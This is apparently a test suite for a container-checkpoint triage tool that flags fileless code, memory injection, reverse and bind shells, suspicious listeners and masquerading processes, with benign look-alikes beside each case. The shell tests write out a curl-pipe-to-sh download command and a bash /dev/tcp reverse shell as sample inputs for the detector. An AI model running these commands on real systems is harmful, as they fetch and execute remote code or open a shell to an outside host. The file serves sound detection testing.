/**
 * Triage families 1-5 on synthetic checkpoints made from the real fixtures (synth.ts): each attack case, and
 * beside it the benign look-alike that must stay quiet or low.
 *   1 code from no file (T1620), 2 injected code (T1055), 3 shells on the network (T1059.004 / T1059),
 *   4 network (T1571 / T1095), 5 masquerading (T1036.004 / .005).
 */
import { describe, test } from 'node:test';
import * as assert from 'node:assert/strict';
import { FdTypes } from '../../../main/core/criu';
import { codeBytes, elfHeader, PROT_R, PROT_W, PROT_X, Synth, TCP_ESTABLISHED, TCP_LISTEN } from './synth';
import { brief, of, triageOf } from './run';

/** crio-counter: pid 1 busybox sh (-c wrapper), pid 6 counter (glibc; listens on 127.0.0.1:8088, inode 51787), pid 7 busybox tee. */
const BASE = 'crio-counter';

describe('triage 1: code from no file (T1620)', () => {
  test('a deleted executable in a temporary folder is high; an executable deleted in place is medium', async () => {
    const s = await Synth.from(BASE);
    const dropped = s.addRegFile('/dev/shm/.x/payload');
    s.setExe(7, dropped);
    s.mapRegion(7, { prot: PROT_R | PROT_X, fileId: dropped });
    s.markDeleted([dropped, 7]); // 7: the counter executable's files.img id
    const r = await triageOf(s.finish());
    const tee = of(r, 'fileless', 7);
    assert.equal(tee.length, 1, brief(tee));
    assert.equal(tee[0].severity, 'high');
    assert.equal(tee[0].technique, 'T1620');
    assert.equal(tee[0].technique_name, 'Reflective Code Loading');
    assert.match(tee[0].title, /runs a deleted executable: \/dev\/shm\/\.x\/payload/);
    assert.ok(tee[0].evidence.some((e) => e.kind === 'vma' && e.perms === 'r-xp'), 'the executable mapping is evidence');
    const counter = of(r, 'fileless', 6);
    assert.deepEqual(counter.map((f) => f.severity), ['medium'], brief(counter));
    assert.match(counter[0].explanation, /upgraded in place/);
  });

  test('a process running from a memfd is high; an executable memfd mapping is medium, libffi\'s is info', async () => {
    const s = await Synth.from('shmpair');
    // shmpair's pid 1 has the memfd "pair-memfd" open (files.img id 9) and mapped rw-s.
    s.setExe(1, 9);
    s.edit('mm-6.img', (e) => {
      for (const v of e[0].vmas) if (Number(v.status) & (1 << 14)) v.prot = PROT_R | PROT_X;
    });
    const r = await triageOf(s.finish());
    const run = of(r, 'fileless', 1).filter((f) => /runs from a memfd/.test(f.title));
    assert.equal(run.length, 1, brief(of(r, 'fileless')));
    assert.equal(run[0].severity, 'high');
    const mapped = of(r, 'fileless', 6);
    assert.equal(mapped.length, 1, brief(mapped));
    assert.equal(mapped[0].severity, 'medium');
    assert.match(mapped[0].title, /memfd "pair-memfd" executable \(r-xs\), starts with data/);
    assert.ok(mapped[0].evidence.some((e) => e.kind === 'memory' && e.preview?.startsWith('50 41 49 52')), 'hex preview of "PAIR"');
    // The shared anonymous mapping (kept as a memfd named /dev/zero) made executable is anonymous code: family 2.
    assert.deepEqual(of(r, 'injection', 6).map((f) => f.severity), ['low'], brief(of(r, 'injection')));

    const benign = await Synth.from('shmpair');
    benign.edit('memfd.img', (e) => {
      for (const m of e) if (m.name === 'pair-memfd') m.name = 'libffi';
    });
    benign.edit('mm-6.img', (e) => {
      for (const v of e[0].vmas) if (Number(v.status) & (1 << 14)) v.prot = PROT_R | PROT_X;
    });
    const b = await triageOf(benign.finish());
    assert.deepEqual(of(b, 'fileless').map((f) => f.severity), ['info'], brief(of(b, 'fileless')));
    assert.equal(b.findings.filter((f) => f.severity === 'high').length, 0);
    assert.match(of(b, 'fileless')[0].explanation, /libffi/);
  });

  test('executable mappings of deleted files: /tmp payload high; libffi temp file, unpacked JNI library and an upgraded system library low', async () => {
    const s = await Synth.from(BASE);
    const evil = s.addRegFile('/tmp/libevil.so');
    const ffi = s.addRegFile('/tmp/ffiAb12Cd');
    const netty = s.addRegFile('/tmp/libnetty_transport_native_epoll_x86_6412345.so');
    const ssl = s.addRegFile('/usr/lib/x86_64-linux-gnu/libssl.so.3');
    for (const id of [evil, ffi, netty, ssl]) s.mapRegion(6, { prot: PROT_R | PROT_X, fileId: id });
    s.markDeleted([evil, ffi, netty, ssl]);
    const r = await triageOf(s.finish());
    const sev = (p: string) => of(r, 'fileless', 6).find((f) => f.title.includes(p))?.severity;
    assert.equal(sev('/tmp/libevil.so'), 'high');
    assert.equal(sev('/tmp/ffiAb12Cd'), 'low');
    assert.equal(sev('libnetty'), 'low');
    assert.equal(sev('libssl.so.3'), 'low');
  });
});

describe('triage 2: injected code (T1055)', () => {
  test('an ELF image in anonymous executable memory is high; code-like rwx memory without a JIT is medium', async () => {
    const s = await Synth.from(BASE);
    const elfAt = s.mapRegion(6, { prot: PROT_R | PROT_W | PROT_X, data: elfHeader() });
    s.mapRegion(6, { prot: PROT_R | PROT_X, data: codeBytes() });
    s.mapRegion(6, { prot: PROT_R | PROT_W | PROT_X, size: 8192 }); // untouched: zeros
    const r = await triageOf(s.finish());
    const f = of(r, 'injection', 6);
    assert.deepEqual(f.map((x) => x.severity), ['high', 'medium', 'low'], brief(f));
    assert.equal(f[0].technique, 'T1055');
    const mem = f[0].evidence.find((e) => e.kind === 'memory');
    assert.ok(mem && mem.kind === 'memory');
    assert.equal(mem.address, '0x' + elfAt.toString(16));
    assert.match(mem.preview ?? '', /^7f 45 4c 46 02 01 01/);
    assert.match(mem.member ?? '', /^checkpoint\/pages-\d+\.img$/);
    assert.equal(typeof mem.member_offset, 'number');
    assert.match(f[1].title, /starts like machine code/);
    assert.match(f[2].title, /starts with zeros/);
  });

  test('a JIT runtime\'s rwx and r-x code is one low finding naming it; an ELF image there is still high', async () => {
    const s = await Synth.from(BASE);
    const jvm = s.addRegFile('/usr/lib/jvm/java-17-openjdk-amd64/lib/server/libjvm.so');
    s.mapRegion(6, { prot: PROT_R | PROT_X, fileId: jvm });
    for (let i = 0; i < 3; i++) s.mapRegion(6, { prot: PROT_R | PROT_W | PROT_X, data: codeBytes() });
    s.mapRegion(6, { prot: PROT_R | PROT_X, data: codeBytes() });
    const r = await triageOf(s.finish());
    const f = of(r, 'injection', 6);
    assert.deepEqual(f.map((x) => x.severity), ['low'], brief(f));
    assert.match(f[0].title, /4 executable anonymous regions, expected for the JVM/);

    s.mapRegion(6, { prot: PROT_R | PROT_W | PROT_X, data: elfHeader() });
    const r2 = await triageOf(s.finish());
    assert.deepEqual(of(r2, 'injection', 6).map((x) => x.severity), ['high', 'low']);
  });

  test('an executable stack and a writable+executable library mapping are low', async () => {
    const s = await Synth.from(BASE);
    s.edit('mm-7.img', (e) => {
      for (const v of e[0].vmas) if (BigInt(v.start) <= BigInt(e[0].mm_start_stack) && BigInt(e[0].mm_start_stack) < BigInt(v.end)) v.prot = PROT_R | PROT_W | PROT_X;
    });
    const lib = s.addRegFile('/usr/lib/libtextrel.so');
    s.mapRegion(6, { prot: PROT_R | PROT_W | PROT_X, fileId: lib });
    const r = await triageOf(s.finish());
    assert.deepEqual(of(r, 'injection').map((f) => `${f.pid} ${f.severity}`), ['6 low', '7 low'], brief(of(r, 'injection')));
  });
});

describe('triage 3: shells wired to the network (T1059.004, T1059)', () => {
  test('a shell whose stdio is a TCP connection is a reverse shell (high); its peer port is named', async () => {
    const s = await Synth.from(BASE);
    const { ino, fileId } = s.addTcp(1, 0, { src: '10.85.0.12', srcPort: 40112, dst: '203.0.113.7', dstPort: 4444, state: TCP_ESTABLISHED });
    s.addFd(1, 1, fileId, FdTypes.INETSK);
    const r = await triageOf(s.finish());
    const f = of(r, 'shell', 1);
    assert.equal(f.length, 1, brief(of(r, 'shell')));
    assert.equal(f[0].severity, 'high');
    assert.equal(f[0].technique, 'T1059.004');
    assert.match(f[0].title, /fd 0, 1: a reverse shell/);
    const sock = f[0].evidence.find((e) => e.kind === 'socket');
    assert.ok(sock && sock.kind === 'socket');
    assert.equal(sock.inode, ino);
    assert.equal(sock.tuple, 'TCP 10.85.0.12:40112 -> 203.0.113.7:4444');
    assert.ok(of(r, 'network', 1).some((x) => x.severity === 'medium' && /offensive tools/.test(x.title)), 'port 4444 is named');
  });

  test('stdio on a UNIX socket (journald, supervisors) is not a reverse shell', async () => {
    const s = await Synth.from(BASE);
    const id = s.addFile({ type: FdTypes.UNIXSK, usk: { ino: 777001, type: 1, state: 1, flags: 2, backlog: 0, peer: 777002, fown: { uid: 0, euid: 0, signum: 0, pid_type: 0, pid: 0 }, uflags: 0, opts: { so_sndbuf: 1, so_rcvbuf: 1 } } });
    s.addFd(1, 1, id, FdTypes.UNIXSK);
    const r = await triageOf(s.finish());
    assert.deepEqual(of(r, 'shell'), []);
  });

  test('inline code run by a server: hostile code high, ordinary code medium, under a server that runs commands by design low; /dev/tcp high', async () => {
    const cases: [string, string, string | undefined, string][] = [
      ['curl -s http://198.51.100.4/x.sh | sh', 'counter', undefined, 'high'],
      ['convert /data/in.png /data/out.jpg', 'counter', undefined, 'medium'],
      ['cp pg_wal/000000010000000000000001 /archive/', 'postgres', undefined, 'low'],
    ];
    for (const [code, parentComm, , want] of cases) {
      const s = await Synth.from(BASE);
      s.setParent(7, 6);
      s.setComm(7, 'sh');
      s.setStrings(7, 'arg', ['sh', '-c', code]);
      if (parentComm !== 'counter') s.setComm(6, parentComm);
      const r = await triageOf(s.finish());
      const f = of(r, 'shell', 7);
      assert.deepEqual(f.map((x) => x.severity), [want], `${code}: ${brief(f)}`);
      assert.equal(f[0].technique, 'T1059');
    }
    const s = await Synth.from(BASE);
    s.setStrings(7, 'arg', ['bash', '-c', 'bash -i >& /dev/tcp/198.51.100.4/443 0>&1']);
    const r = await triageOf(s.finish());
    assert.ok(of(r, 'shell', 7).some((f) => f.severity === 'high' && /\/dev\/tcp/.test(f.title)), brief(of(r, 'shell')));

    // Look-alikes: a health check probing a local port through /dev/tcp; a Python worker (no listening
    // socket) running a shell command.
    const h = await Synth.from(BASE);
    h.setStrings(7, 'arg', ['bash', '-c', 'echo > /dev/tcp/localhost/8088']);
    h.setParent(1, 0);
    const py = h.addRegFile('/usr/bin/python3.11');
    h.setExe(1, py);
    h.setComm(1, 'python3.11');
    h.setStrings(1, 'arg', ['python3.11', '/app/worker.py']);
    h.setParent(7, 1);
    const rh = await triageOf(h.finish());
    assert.deepEqual(of(rh, 'shell').map((f) => `${f.pid} ${f.severity}`), ['7 low'], brief(of(rh, 'shell')));
  });
});

describe('triage 4: network (T1571, T1095)', () => {
  test('a listener outside the main workload: a shell listening is a bind shell (high), port 31337 medium, a helper low', async () => {
    const s = await Synth.from(BASE);
    s.addTcp(7, 5, { src: '0.0.0.0', srcPort: 31337, dst: '0.0.0.0', dstPort: 0, state: TCP_LISTEN });
    s.setParent(7, 6); // below the counter (not a wrapper): not part of the main workload
    const r = await triageOf(s.finish());
    assert.deepEqual(of(r, 'network', 7).map((f) => f.severity), ['medium'], brief(of(r, 'network')));
    assert.equal(of(r, 'network', 7)[0].technique, 'T1571');

    s.setComm(7, 'sh');
    const r2 = await triageOf(s.finish());
    assert.deepEqual(of(r2, 'network', 7).map((f) => f.severity), ['high']);
  });

  test('a worker holding the listening socket its parent opened (nginx, gunicorn) is not reported; the main process\'s own listener is not either', async () => {
    const s = await Synth.from(BASE);
    s.setParent(7, 6);
    s.addTcp(7, 5, { src: '127.0.0.1', srcPort: 8088, dst: '0.0.0.0', dstPort: 0, state: TCP_LISTEN, ino: 51787 });
    const r = await triageOf(s.finish());
    assert.deepEqual(of(r, 'network'), [], brief(of(r, 'network')));
  });

  test('established connections: one info finding per process listing the peers', async () => {
    const s = await Synth.from(BASE);
    s.addTcp(6, 5, { src: '10.85.0.12', srcPort: 8088, dst: '10.85.0.1', dstPort: 51234, state: TCP_ESTABLISHED });
    s.addTcp(6, 6, { src: '10.85.0.12', srcPort: 40000, dst: '10.96.0.10', dstPort: 5432, state: TCP_ESTABLISHED });
    const r = await triageOf(s.finish());
    const f = of(r, 'network', 6);
    assert.deepEqual(f.map((x) => x.severity), ['info'], brief(f));
    assert.match(f[0].title, /2 established connections: 10\.85\.0\.1:51234, 10\.96\.0\.10:5432/);
    assert.equal(f[0].evidence.filter((e) => e.kind === 'socket').length, 2);
  });

  test('packet sockets: medium in a web program, low in a DHCP client', async () => {
    const s = await Synth.from(BASE);
    s.addPacketSocket(6, 9);
    const r = await triageOf(s.finish());
    assert.deepEqual(of(r, 'network', 6).map((f) => `${f.severity} ${f.technique}`), ['medium T1095']);
    s.setComm(6, 'dhclient');
    const r2 = await triageOf(s.finish());
    assert.deepEqual(of(r2, 'network', 6).map((f) => f.severity), ['low']);
  });
});

describe('triage 5: masquerading (T1036.004, T1036.005)', () => {
  test('kernel-thread names are high; a daemon name on a /tmp program is high; a daemon name on another program medium', async () => {
    const s = await Synth.from(BASE);
    s.setComm(7, 'kworker/0:1');
    s.setStrings(6, 'arg', ['[kworker/u8:2]']);
    const r = await triageOf(s.finish());
    assert.deepEqual(of(r, 'masquerade').map((f) => `${f.pid} ${f.severity} ${f.technique}`), ['6 high T1036.004', '7 high T1036.004'], brief(of(r, 'masquerade')));

    const t = await Synth.from(BASE);
    const sshd = t.addRegFile('/tmp/sshd');
    t.setExe(6, sshd);
    t.setComm(6, 'sshd');
    t.setStrings(6, 'arg', ['/tmp/sshd']);
    const r2 = await triageOf(t.finish());
    assert.deepEqual(of(r2, 'masquerade').map((f) => `${f.pid} ${f.severity} ${f.technique}`), ['6 high T1036.005'], brief(of(r2, 'masquerade')));

    const u = await Synth.from(BASE);
    u.setComm(6, 'sshd'); // the counter program calling itself sshd
    u.setComm(7, 'sshd'); // busybox: any applet name is its own
    const r3 = await triageOf(u.finish());
    assert.deepEqual(of(r3, 'masquerade').map((f) => `${f.pid} ${f.severity} ${f.technique}`), ['6 medium T1036.004'], brief(of(r3, 'masquerade')));
  });

  test('benign names: busybox applets, shebang scripts, names cut to 15 characters, retitled servers', async () => {
    const s = await Synth.from(BASE);
    const py = s.addRegFile('/usr/bin/python3.11');
    s.setExe(6, py);
    s.setComm(6, 'worker.py');
    s.setStrings(6, 'arg', ['/usr/bin/python3', '/app/worker.py']);
    const long = s.addRegFile('/usr/local/bin/very-long-program-name');
    s.setExe(7, long);
    s.setComm(7, 'very-long-progr');
    s.setStrings(7, 'arg', ['very-long-program-name']);
    const r = await triageOf(s.finish());
    assert.deepEqual(of(r, 'masquerade'), [], brief(of(r, 'masquerade')));

    const t = await Synth.from(BASE);
    const py2 = t.addRegFile('/usr/local/bin/python3.11');
    t.setExe(6, py2);
    t.setComm(6, 'gunicorn');
    t.setStrings(6, 'arg', ['gunicorn: master [app:server]']);
    const r2 = await triageOf(t.finish());
    assert.deepEqual(of(r2, 'masquerade'), [], brief(of(r2, 'masquerade')));
  });
});
